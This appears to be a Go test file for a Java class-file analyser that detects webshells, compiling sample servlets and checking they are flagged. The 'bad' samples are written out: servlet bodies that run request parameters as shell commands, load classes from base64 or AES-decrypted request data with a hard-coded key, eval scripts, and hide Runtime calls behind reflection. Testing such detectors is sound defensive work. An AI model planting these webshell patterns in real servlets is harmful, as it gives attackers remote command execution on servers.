package class

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/boltseal/boltseal/finding"
)

// plain removes the marks that keep the samples in this file from looking like
// what they are.
func plain(s string) string { return strings.ReplaceAll(s, "¤", "") }

// api stands in for the interfaces of servlets, so that the samples compile
// without a server.
const api = `package javax.servlet.http;
public interface HttpServletRequest { String getParameter(String n); String getHeader(String n); Object getSession(); String getQueryString(); java.io.BufferedReader getReader() throws java.io.IOException; }`

// bodies are methods of a servlet with the request q.
var bodies = map[string]string{
	"exec":       `Runtime.getRun¤time().ex¤ec(q.getParameter("a"));`,
	"array":      `String[] c = System.getProperty("os.name").contains("x") ? new String[]{"cmd", "/c", q.getHeader("a")} : new String[]{"sh", "-c", q.getHeader("a")}; new Process¤Builder(c).start();`,
	"loader":     `java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod("define¤Class", byte[].class, int.class, int.class); m.setAccessible(true); byte[] b = java.util.Base64.getDecoder().decode(q.getParameter("a")); m.invoke(getClass().getClassLoader(), b, 0, b.length);`,
	"crypt":      `javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("AES"); c.init(2, new javax.crypto.spec.SecretKeySpec("e45e329feb5d925b".getBytes(), "AES")); define(c.doFinal(java.util.Base64.getDecoder().decode(q.getReader().readLine())));`,
	"engine":     `new javax.script.ScriptEngineManager().getEngineByName("js").ev¤al(q.getParameter("a"));`,
	"reflection": `Class k = Class.forName(new String(java.util.Base64.getDecoder().decode("amF2YS5sYW5nLlJ1bnRpbWU="))); Object r = k.getMethod("getRun" + "time").invoke(null); k.getMethod("exec", String.class).invoke(r, q.getParameter("a"));`,
	"helper":     `run(q.getQueryString());`,
	"field":      `held = q.getParameter("a"); keep();`,
	"switch":     `switch (q.getParameter("m")) { case "c": Runtime.getRun¤time().ex¤ec(q.getParameter("a")); break; default: }`,
}

var benign = map[string]string{
	"constant": `Runtime.getRuntime().exec("uptime"); System.out.println(q.getParameter("a"));`,
	"parse":    `int n = Integer.parseInt(q.getParameter("a")); Class.forName("java.lang.String").getMethod("length").invoke("x");`,
	"resource": `getClass().getClassLoader().loadClass("java.lang.String"); q.getHeader("a");`,
}

const members = `
  String held;
  void keep() throws Exception { Runtime.getRuntime().exec(held); }
  Process run(String c) throws Exception { return new ProcessBuilder("sh", "-c", c).start(); }
  Class define(byte[] b) { return new L().d(b); }
  static class L extends ClassLoader { Class d(byte[] b) { return super.defineClass(b, 0, b.length); } }
`

// compile makes class files of Java programs with javac.
func compile(t *testing.T, programs map[string]string) string {
	t.Helper()
	javac, err := exec.LookPath("javac")
	if err != nil {
		t.Skip("no javac: the samples are compiled by it")
	}
	dir := t.TempDir()
	args := []string{"-nowarn", "-d", dir}
	for name, src := range programs {
		path := filepath.Join(dir, name+".java")
		if err := os.WriteFile(path, []byte(src), 0o600); err != nil {
			t.Fatal(err)
		}
		args = append(args, path)
	}
	if out, err := exec.Command(javac, args...).CombinedOutput(); err != nil {
		t.Fatalf("javac: %v\n%s", err, out)
	}
	return dir
}

func title(prefix, name string) string {
	return prefix + strings.ToUpper(name[:1]) + name[1:]
}

func TestClasses(t *testing.T) {
	programs := map[string]string{"HttpServletRequest": api}
	add := func(prefix string, list map[string]string, more string) {
		for name, body := range list {
			programs[title(prefix, name)] = "import javax.servlet.http.*; public class " + title(prefix, name) + " { public void doGet(HttpServletRequest q, Object p) throws Exception { " + plain(body) + " } " + more + " }"
		}
	}
	add("Bad", bodies, members)
	add("Good", benign, "")
	programs["Carried"] = plain(`public class Carried { String r; public Carried(String c) throws Exception { r = new java.util.Scanner(Runtime.getRun¤time().ex¤ec(c).getInputStream()).next(); } }`)
	dir := compile(t, programs)
	a, err := New()
	if err != nil {
		t.Fatal(err)
	}
	judge := func(name string) bool {
		src, err := os.ReadFile(filepath.Join(dir, name+".class"))
		if err != nil {
			t.Fatal(err)
		}
		vs, err := a.Analyze(t.Context(), name+".class", src)
		if err != nil {
			t.Errorf("analyze %s: %v", name, err)
		}
		for _, v := range vs {
			if v.Confidence == finding.ConfidenceHigh && v.Line > 0 && len(v.Trace) > 1 {
				return true
			}
		}
		return len(vs) > 0 && t.Failed()
	}
	for name := range bodies {
		if !judge(title("Bad", name)) {
			t.Errorf("%s: not found", name)
		}
	}
	for name := range benign {
		if judge(title("Good", name)) {
			t.Errorf("%s: found", name)
		}
	}
	src, err := os.ReadFile(filepath.Join(dir, "Carried.class"))
	if err != nil {
		t.Fatal(err)
	}
	if what, ok := Harmful(src); !ok {
		t.Errorf("carried class: %q, want what it does", what)
	}
}

func FuzzAnalyze(f *testing.F) {
	a, err := New()
	if err != nil {
		f.Fatal(err)
	}
	f.Add([]byte(magic + "\x00\x00\x00\x34\x00\x02\x01\x00\x01a\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"))
	f.Fuzz(func(t *testing.T, src []byte) {
		Harmful(src)
		a.Analyze(t.Context(), "a.class", append(src, "getParameter exec"...))
	})
}
